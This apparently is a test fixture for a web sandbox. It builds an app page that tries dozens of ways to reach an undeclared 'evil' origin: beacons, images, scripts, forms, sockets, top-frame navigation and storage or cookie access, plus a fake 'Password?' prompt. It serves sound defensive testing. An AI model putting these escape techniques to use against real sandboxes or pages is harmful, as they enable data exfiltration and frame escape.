/** The last try of an app: it goes to the undeclared origin itself. */
export const endings = {
  self: "location.href = evil + '/self'",
  reload: `add('meta', { 'http-equiv': 'refresh', content: '0;url=' + evil + '/reload' }, document.head)`,
  download: "add('a', { href: evil + '/download', download: 'x' }).click()",
} as const

/**
 * Returns the page of an app that tries to get out of its frame in every way, and says how each
 * went, in the console. `evil` is an origin that no server has declared. At the end it goes there
 * itself, by `end`.
 */
export const attackPage = (
  evil: string,
  end: keyof typeof endings,
): string => `<!doctype html><html><body><script>
const evil = ${JSON.stringify(evil)}
const say = (text) => console.log('app: ' + text)
const add = (name, attributes, parent = document.body) => {
  const element = document.createElement(name)
  for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
  parent.append(element)
  return element
}
const tries = {
  fetch: () => fetch(evil + '/fetch'),
  post: () => fetch(evil + '/post', { method: 'POST', mode: 'no-cors', body: 'x' }),
  xhr: () => new Promise((done, fail) => { const x = new XMLHttpRequest(); x.open('GET', evil + '/xhr'); x.onload = done; x.onerror = () => fail(new Error('refused')); x.send() }),
  socket: () => new Promise((done, fail) => { const s = new WebSocket(evil.replace('http', 'ws') + '/socket'); s.onopen = done; s.onerror = () => fail(new Error('refused')) }),
  events: () => new Promise((done, fail) => { const s = new EventSource(evil + '/events'); s.onopen = done; s.onerror = () => fail(new Error('refused')) }),
  address: () => { if (!document.baseURI.startsWith('http')) throw new Error('refused') },
  storage: () => localStorage.setItem('a', 'b'),
  session: () => sessionStorage.getItem('a'),
  cookie: () => { document.cookie = 'a=b'; if (!document.cookie) throw new Error('refused') },
  database: () => new Promise((done, fail) => { const r = indexedDB.open('a'); r.onsuccess = done; r.onerror = () => fail(r.error) }),
  parent: () => parent.document.title,
  page: () => parent.parent.document.title,
  top: () => { top.location.href = evil + '/top'; throw new Error('ignored') },
  up: () => { parent.location.href = evil + '/up'; throw new Error('ignored') },
  popup: () => { if (!open(evil + '/popup')) throw new Error('refused') },
  alert: () => { if (!confirm('Password?')) throw new Error('refused') },
  eval: () => eval('1'),
}
const silent = {
  worker: () => new Worker('data:text/javascript,fetch("' + evil + '/worker")'),
  beacon: () => navigator.sendBeacon(evil + '/beacon', 'x'),
  image: () => { new Image().src = evil + '/image' },
  script: () => add('script', { src: evil + '/script' }),
  style: () => add('link', { rel: 'stylesheet', href: evil + '/style' }),
  rule: () => add('style', {}).append('@import "' + evil + '/import"; body { background: url(' + evil + '/background) }'),
  prefetch: () => add('link', { rel: 'prefetch', href: evil + '/prefetch' }),
  icon: () => add('link', { rel: 'icon', href: evil + '/icon' }),
  frame: () => add('iframe', { src: evil + '/frame' }),
  inner: () => add('iframe', { srcdoc: '<img src="' + evil + '/inner">' }),
  object: () => add('object', { data: evil + '/object' }),
  embed: () => add('embed', { src: evil + '/embed' }),
  media: () => add('video', { src: evil + '/media', autoplay: '' }),
  base: () => { add('base', { href: evil }, document.head); new Image().src = '/base' },
  form: () => add('form', { action: evil + '/form', method: 'post' }).submit(),
  blank: () => add('form', { action: evil + '/blank', target: '_blank' }).submit(),
  ping: () => add('a', { href: '#x', ping: evil + '/ping' }).click(),
  link: () => add('a', { href: evil + '/link', target: '_top' }).click(),
}
const run = async () => {
  for (const [name, attempt] of Object.entries(tries)) {
    try { await attempt(); say(name + ' WENT THROUGH') } catch (error) { say(name + ' refused') }
  }
  for (const [name, attempt] of Object.entries(silent)) {
    say(name)
    try { attempt() } catch {}
    await new Promise((next) => setTimeout(next))
  }
  await new Promise((next) => setTimeout(next, 300))
  say('tried')
  await new Promise((next) => setTimeout(next, 300))
  ${endings[end]}
}
run()
</script></body></html>`
